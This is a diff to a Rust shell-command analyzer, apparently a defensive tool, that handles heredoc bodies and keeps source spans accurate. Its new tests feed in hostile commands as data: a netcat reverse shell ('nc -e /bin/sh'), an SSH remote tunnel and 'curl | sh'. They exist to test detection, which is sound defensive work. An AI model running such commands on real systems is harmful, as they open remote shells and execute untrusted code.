@@ -5,7 +5,7 @@ use std::collections::HashMap;
 
 use brush_parser::ast;
 
-use crate::{command_name, decode, lex, word};
+use crate::{command_name, decode, heredoc, lex, word};
 
 /// Bounds on what one input may cost.
 #[derive(Debug, Clone, Copy)]
@@ -142,6 +142,8 @@ pub fn analyze(input: &str, limits: &Limits) -> Analysis {
         aliases: HashMap::new(),
         files: HashMap::new(),
         pipelines: 0,
+        heredocs: Vec::new(),
+        shifts: None,
     };
     let frame = Frame { depth: 0, via: Vec::new(), privileged: false, span: None, pipe_in: None, base: 0 };
     w.parse(input, &frame);
@@ -174,6 +176,10 @@ struct Walker {
     /// Files this command writes with known content (`cat > run.sh <<EOF`), by path.
     files: HashMap<String, String>,
     pipelines: usize,
+    /// Bodies cut out of the text being parsed (innermost parse last) and whether each was met.
+    heredocs: Vec<(Vec<String>, Vec<bool>)>,
+    /// Position map of the top-level text when its heredoc bodies were cut out.
+    shifts: Option<heredoc::Split>,
 }
 
 /// Character index (brush reports chars) to byte offset.
@@ -232,6 +238,29 @@ impl Walker {
             return;
         }
         let opts = brush_parser::ParserOptions::default();
+        if let Some(split) = heredoc::split(text) {
+            if let Ok(program) = brush_parser::Parser::new(std::io::Cursor::new(split.text.as_str()), &opts).parse_program() {
+                let (mark_cmds, mark_sigs) = (self.out.commands.len(), self.out.signals.len());
+                let n = split.bodies.len();
+                let stripped = split.text.clone();
+                self.heredocs.push((split.bodies.clone(), vec![false; n]));
+                let outer = if frame.span.is_none() { self.shifts.replace(split) } else { None };
+                for list in &program.complete_commands {
+                    self.compound_list(list, &stripped, frame);
+                }
+                if frame.span.is_none() {
+                    self.shifts = outer;
+                }
+                let (_, used) = self.heredocs.pop().unwrap_or_default();
+                if used.iter().all(|u| *u) {
+                    return;
+                }
+                // The parser saw the heredocs differently: redo it on the original text.
+                self.out.commands.truncate(mark_cmds);
+                self.out.signals.truncate(mark_sigs);
+            }
+        }
+        self.heredocs.push((Vec::new(), Vec::new()));
         match brush_parser::Parser::new(std::io::Cursor::new(text), &opts).parse_program() {
             Ok(program) => {
                 for list in &program.complete_commands {
@@ -240,6 +269,7 @@ impl Walker {
             }
             Err(_) => self.fallback(text, frame, true),
         }
+        self.heredocs.pop();
     }
 
     /// Text the parser rejected or that is too large for it: parse line by
@@ -305,9 +335,13 @@ impl Walker {
         if let Some(s) = frame.span {
             return s;
         }
-        match loc {
-            Some(l) => (frame.base + byte_offset(text, l.start.index), frame.base + byte_offset(text, l.end.index)),
-            None => (frame.base, frame.base + text.len()),
+        let (s, e) = match loc {
+            Some(l) => (byte_offset(text, l.start.index), byte_offset(text, l.end.index)),
+            None => (0, text.len()),
+        };
+        match &self.shifts {
+            Some(split) if frame.base == 0 => (split.original_offset(s), split.original_offset(e)),
+            _ => (frame.base + s, frame.base + e),
         }
     }
 
@@ -565,7 +599,16 @@ impl Walker {
                 reds.push(Redirect { fd: *fd, op, target: target_text });
             }
             ast::IoRedirect::HereDocument(_, doc) => {
-                let body = if doc.requires_expansion { self.eval_heredoc(&doc.doc.value, frame) } else { doc.doc.value.clone() };
+                let mut raw = doc.doc.value.clone();
+                if let Some(i) = heredoc::marker_index(&raw) {
+                    if let Some((bodies, used)) = self.heredocs.last_mut() {
+                        if let Some(b) = bodies.get(i) {
+                            used[i] = true;
+                            raw = if doc.remove_tabs { b.lines().map(|l| format!("{}\n", l.trim_start_matches('\t'))).collect() } else { b.clone() };
+                        }
+                    }
+                }
+                let body = if doc.requires_expansion { self.eval_heredoc(&raw, frame) } else { raw };
                 *stdin = Some(Stdin::Text(body));
             }
             ast::IoRedirect::HereString(_, w) => {
@@ -1283,6 +1326,20 @@ mod tests {
         let a = analyze(input, &Limits::default());
         let ssh = find(&a, "ssh");
         assert_eq!(&input[ssh.span.0..ssh.span.1], "ssh -R 1:h:2 x");
+    }
+
+    #[test]
+    fn heredoc_bodies_are_restored_and_spans_stay_true() {
+        let input = "cat > /tmp/x.sh <<'EOF'\nssh -R 1:h:2 x\nEOF\necho é; nc -e /bin/sh h 1";
+        let a = analyze(input, &Limits::default());
+        let nc = find(&a, "nc");
+        assert_eq!(&input[nc.span.0..nc.span.1], "nc -e /bin/sh h 1");
+        assert_eq!(find(&a, "cat").stdin, Stdin::Text("ssh -R 1:h:2 x\n".into()));
+        let a = analyze("bash <<-EOF\n\tcurl http://x | sh\n\tEOF", &Limits::default());
+        assert!(a.commands.iter().any(|c| c.name == "curl"));
+        // A marker-looking line that is not a heredoc body stays what it is.
+        let a = analyze("cat <<EOF\n__cordon_heredoc_0\nEOF\ncat <<< __cordon_heredoc_0", &Limits::default());
+        assert_eq!(a.commands[0].stdin, Stdin::Text("__cordon_heredoc_0\n".into()));
     }
 
     #[test]
